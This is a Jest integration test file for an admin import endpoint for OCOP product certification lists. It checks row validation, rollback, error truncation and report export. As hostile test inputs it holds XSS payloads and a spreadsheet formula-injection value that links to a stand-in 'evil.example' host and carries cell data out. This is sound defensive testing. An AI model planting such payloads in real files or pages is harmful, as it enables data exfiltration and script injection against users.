import { runMedusaSuite } from "../../fixtures/medusa-suite"
import { ContainerRegistrationKeys, Modules } from "@medusajs/framework/utils"
import { generateSyntheticRows, parseCertificationBuffer, writeSyntheticCsv, type CertificationRecord } from "@ocop/seed"
import { mkdtempSync, readFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { ADMIN, loginAdmin } from "../../fixtures/demo-catalog"
import { attempt, createAttackTally } from "../../fixtures/attack-tally"
import { sampleBuffer } from "../../fixtures/samples"
import { ensureAdminUser } from "../../../src/scripts/lib/ensure-admin-user"
import { ensureStoreDefaults } from "../../../src/scripts/lib/ensure-store-defaults"
import { OCOP_MODULE } from "../../../src/modules/ocop"
import type OcopModuleService from "../../../src/modules/ocop/service"
import { PRODUCER_MODULE } from "../../../src/modules/producer"
import { OCOP_IMPORT_MODULE } from "../../../src/modules/ocop-import"
import { importHandle, productImportKey } from "../../../src/workflows/ocop/import/import-keys"

jest.setTimeout(300_000)

/** A synthetic list parsed as the CLI would send it, rows numbered 1…n in request order. */
async function syntheticRecords(count: number, seed: number): Promise<CertificationRecord[]> {
  const file = writeSyntheticCsv(join(mkdtempSync(join(tmpdir(), "ocop-hard-")), "list.csv"), generateSyntheticRows(count, seed))
  const { records } = await parseCertificationBuffer(readFileSync(file), "list.csv")
  expect(records).toHaveLength(count)
  return records.map((record, i) => ({ ...record, source_row: i + 1 }))
}

const INTERNAL_ID = /\b[a-z]+_[0-9A-HJKMNP-TV-Z]{26}\b/
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'

runMedusaSuite({
  testSuite: ({ api, getContainer }) => {
    let headers: Record<string, string>
    const tally = createAttackTally("imports")

    beforeAll(async () => {
      await ensureStoreDefaults(getContainer())
      await ensureAdminUser(getContainer(), ADMIN.email, ADMIN.password)
    })
    beforeEach(async () => {
      headers = await loginAdmin(api)
    })
    afterAll(() => {
      tally.report()
      expect(tally.leaks).toEqual([])
      expect(tally.serverErrors).toEqual([])
    })

    type Answer = { status: number; data?: any }
    const postRows = (records: unknown[], extra: Record<string, unknown> = {}): Promise<Answer> =>
      attempt(() => api.post("/admin/ocop/imports", { records, file_name: "list.json", ...extra }, { headers }))
    const upload = (name: string, content: Buffer): Promise<Answer> => {
      const form = new FormData()
      form.append("file", new Blob([new Uint8Array(content)]), name)
      return attempt(() => api.post("/admin/ocop/imports/file", form, { headers }))
    }
    const report = async (url: string) => (await api.get(url, { headers, responseType: "text" })).data as string
    /** Everything an import can write, counted. */
    const written = async () => {
      const container = getContainer()
      const ocop: OcopModuleService = container.resolve(OCOP_MODULE)
      const query = container.resolve(ContainerRegistrationKeys.QUERY)
      const [, products] = await container.resolve(Modules.PRODUCT).listAndCountProducts({}, { take: 1 })
      const [, producers] = await (container.resolve(PRODUCER_MODULE) as any).listAndCountProducers({}, { take: 1 })
      const [, certifications] = await ocop.listAndCountCertifications({}, { take: 1 })
      const [, runs] = await (container.resolve(OCOP_IMPORT_MODULE) as any).listAndCountImportRuns({}, { take: 1 })
      const { data: linked } = await query.graph({ entity: "product", fields: ["id", "producer.id", "certifications.id"] })
      const producerLinks = linked.filter((p: any) => p.producer?.id).length
      const certificateLinks = linked.reduce((n: number, p: any) => n + (p.certifications ?? []).filter(Boolean).length, 0)
      return { products, producers, certifications, runs, producerLinks, certificateLinks }
    }

    it("imports 1,199 of 1,200 rows and rejects the one with an unknown province, naming row 700 and the field", async () => {
      const records = await syntheticRecords(1200, 21)
      records[699] = { ...records[699], province_code_2025: "99" }
      const { status, data } = await postRows(records)
      expect(status).toBe(200)
      expect(data).toMatchObject({ read: 1200, rejected: 1, errors_total: 1, errors_truncated: false })
      expect(data.errors).toEqual([expect.objectContaining({ source_row: 700, column: "province_code_2025", code: "unknown_province", value: "99" })])
      expect(data.errors[0].message).toMatch(/^province_code_2025: /)
      const keys = new Set(records.filter((_, i) => i !== 699).map(productImportKey))
      expect(data.created + data.unchanged).toBe(1199)
      expect(data.created).toBe(keys.size)
      const after = await written()
      expect(after.products).toBe(keys.size)
      expect(after.certifications).toBe(keys.size)
      expect(after.certificateLinks).toBe(keys.size)
    })

    it("writes nothing when the database refuses a row half-way through the write", async () => {
      const records = await syntheticRecords(1200, 22)
      // An operator's own product already holds the handle row 900 would get: the row passes every check, then
      // the product table's unique handle refuses it while the second chunk of 500 products is written.
      const victim = records[899]
      await getContainer()
        .resolve(Modules.PRODUCT)
        .createProducts([{ title: "Sản phẩm của quản trị viên", handle: importHandle(victim, productImportKey(victim)), status: "draft" }])
      const before = await written()
      const { status, data } = await postRows(records)
      expect(status).toBeGreaterThanOrEqual(400)
      expect(status).toBeLessThan(500)
      expect(data.message).toMatch(/^import: .*nothing was written/)
      expect(JSON.stringify(data)).not.toMatch(INTERNAL_ID)
      expect(await written()).toEqual(before)
    })

    it("counts rows, not errors, in read", async () => {
      const csv = [
        "STT,Tên sản phẩm,Chủ thể,Xã,Huyện,Tỉnh,Hạng sao,Điểm",
        "1,Mật ong bạc hà đếm dòng,HTX Ong,Mèo Vạc,Mèo Vạc,Hà Giang,4,",
        "2,,HTX Trống,Mèo Vạc,Mèo Vạc,Hà Giang,9,150",
        "3,Chè Shan tuyết đếm dòng,HTX Chè,Vị Xuyên,Vị Xuyên,Hà Giang,3,",
      ].join("\n")
      const { status, data } = await upload("dem-dong.csv", Buffer.from(csv, "utf8"))
      expect(status).toBe(200)
      expect(data.errors.length).toBeGreaterThan(1)
      expect(new Set(data.errors.map((e: any) => e.source_row))).toEqual(new Set([2]))
      expect(data).toMatchObject({ read: 3, rejected: 1, created: 2 })
    })

    it("answers the first 1,000 of 1,500 row errors and keeps every one in a downloadable report", async () => {
      const [good] = await syntheticRecords(1, 23)
      const bad = Array.from({ length: 1500 }, (_, i) => ({ ...good, product_name: `Sản phẩm lỗi ${i}`, stars: 9, source_row: i + 2 }))
      const { status, data } = await postRows([{ ...good, source_row: 1 }, ...bad])
      expect(status).toBe(200)
      expect(data).toMatchObject({ read: 1501, created: 1, rejected: 1500, errors_total: 1500, errors_truncated: true })
      expect(data.errors).toHaveLength(1000)
      expect(data.errors[0]).toMatchObject({ source_row: 2, column: "stars" })
      expect(data.errors[0].message).toMatch(/^stars: /)
      expect(data.report_url).toMatch(/^\/admin\/ocop\/imports\/[^/]+\/report$/)
      const csv = await report(data.report_url)
      const lines = csv.trim().split("\n")
      expect(lines[0]).toBe("source_row,column,value,code,message")
      expect(lines).toHaveLength(1501)
      expect(lines.slice(1).map((line) => Number(line.split(",")[0]))).toEqual(bad.map((r) => r.source_row))
      const unauthenticated = await attempt(() => api.get(data.report_url))
      tally.record("report without admin token", unauthenticated, unauthenticated.status !== 401 && "report served without authentication")
    })

    it("refuses <script> and a 100,000-character name on the JSON path with field-named errors, echoing little", async () => {
      const [good] = await syntheticRecords(1, 24)
      const script = { ...good, product_name: "Mật ong <script>alert(1)</script>", source_row: 1 }
      const huge = { ...good, product_name: "A".repeat(100_000), source_row: 2 }
      const hiddenInProducer = { ...good, product_name: "Chè sạch", producer_name: '<img src=x onerror="alert(1)">', source_row: 3 }
      const { status, data } = await postRows([script, huge, hiddenInProducer])
      const body = JSON.stringify(data)
      tally.record("JSON <script> in product_name", { status, data }, data?.created > 0 && "markup imported")
      tally.record("JSON 100,000-character product_name", { status, data }, body.length > 5_000 && `${body.length}-character answer`)
      expect(status).toBe(200)
      expect(data).toMatchObject({ read: 3, created: 0, rejected: 3 })
      const byRow = Object.fromEntries(data.errors.map((e: any) => [e.source_row, e]))
      expect(byRow[1]).toMatchObject({ column: "product_name", code: "markup_not_allowed" })
      expect(byRow[1].message).toMatch(/^product_name: /)
      expect(byRow[2]).toMatchObject({ column: "product_name", code: "too_long" })
      expect(byRow[2].message).toMatch(/^product_name: .*300/)
      expect(byRow[2].value.length).toBeLessThanOrEqual(101)
      expect(byRow[3]).toMatchObject({ column: "producer_name", code: "markup_not_allowed" })
      expect(body).not.toMatch(/<script|<img/i)
      expect((await written()).products).toBe(0)
    })

    it("refuses the same names in an uploaded file with the same field-named errors", async () => {
      const rows = [
        "STT,Tên sản phẩm,Chủ thể,Xã,Huyện,Tỉnh,Hạng sao",
        "1,<script>alert(1)</script>,HTX X,Vị Xuyên,Vị Xuyên,Hà Giang,3",
        `2,${"B".repeat(100_000)},HTX Y,Vị Xuyên,Vị Xuyên,Hà Giang,3`,
      ].join("\n")
      const response = await upload("hostile.csv", Buffer.from(rows, "utf8"))
      const body = JSON.stringify(response.data)
      tally.record("file <script> in product name", response, response.data?.created > 0 && "markup imported")
      tally.record("file 100,000-character product name", response, body.length > 5_000 && `${body.length}-character answer`)
      expect(response.status).toBe(200)
      expect(response.data).toMatchObject({ read: 2, created: 0, rejected: 2 })
      const [first, second] = response.data.errors
      expect(first).toMatchObject({ source_row: 1, column: "Tên sản phẩm", code: "markup_not_allowed" })
      expect(first.message).toMatch(/^Tên sản phẩm: /)
      expect(second).toMatchObject({ source_row: 2, column: "product_name", code: "too_long" })
      expect(second.message).toMatch(/^product_name: /)
      expect(body).not.toMatch(/<script/i)
    })

    it("stores a formula-looking name verbatim and escapes it in the exported report", async () => {
      const [good] = await syntheticRecords(1, 25)
      const formula = { ...good, product_name: HYPERLINK, source_row: 1 }
      const { data } = await postRows([formula])
      expect(data).toMatchObject({ created: 1, rejected: 0 })
      const [product] = await getContainer()
        .resolve(Modules.PRODUCT)
        .listProducts({ external_id: productImportKey(formula) })
      expect(product.title).toBe(HYPERLINK)
      // A revocation list naming a product that has no certificate: the rejected row quotes the name.
      const stranger = { ...formula, product_name: `${HYPERLINK} khác`, source_row: 4 }
      const revoke = await postRows([stranger], { mode: "revoke" })
      expect(revoke.data.errors[0]).toMatchObject({ source_row: 4, code: "not_certified", value: `${HYPERLINK} khác` })
      const csv = await report(revoke.data.report_url)
      const line = csv.trim().split("\n")[1]
      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"") khác"`)
      tally.check("formula cell in the exported report", /(^|,)"?=HYPERLINK/.test(line) && "formula exported unescaped")
    })

    it("answers a broken workbook with a 400 naming the file", async () => {
      const sample = sampleBuffer("annex-tra-vinh-style.xlsx")
      const truncated = await upload("phu-luc.xlsx", sample.subarray(0, Math.floor(sample.length / 2)))
      const garbage = await upload("rac.xlsx", Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(2000, 7)]))
      for (const [name, response] of [
        ["phu-luc.xlsx", truncated],
        ["rac.xlsx", garbage],
      ] as const) {
        tally.record(`broken workbook ${name}`, response)
        expect(response.status).toBe(400)
        expect((response.data as any).message).toBe(
          `file: ${name} không phải bảng tính XLSX đọc được / not a readable XLSX workbook (hãy mở và lưu lại bằng Excel / open and save it again in Excel)`
        )
      }
    })

    it("never echoes a 10,000-character input in an error", async () => {
      const long = "x".repeat(10_000)
      const cases = {
        "unknown body key": await postRows([], { [long]: 1 }),
        "long file_name": await postRows([], { file_name: long }),
        "long mode": await postRows([], { mode: long }),
        "long unknown record field": await postRows([{ [long]: 1, source_row: 1 }]),
        "long value of a field": await postRows([{ product_name: 1, province_code_2025: long, source_row: 1 }]),
        "long file name": await upload(`${long}.csv`, Buffer.from("STT,Tên sản phẩm,Tỉnh,Hạng sao\n1,Chè,Hà Giang,3\n")),
      }
      for (const [what, response] of Object.entries(cases)) {
        // Quoted input is cut at 100 characters: no longer run of it may come back.
        const echoed = JSON.stringify(response.data).includes("x".repeat(101))
        tally.record(what, response, echoed && "input echoed beyond 100 characters")
        expect({ what, status: response.status, echoed }).toEqual({ what, status: expect.any(Number), echoed: false })
        expect(response.status).toBeLessThan(500)
      }
    })
  },
})
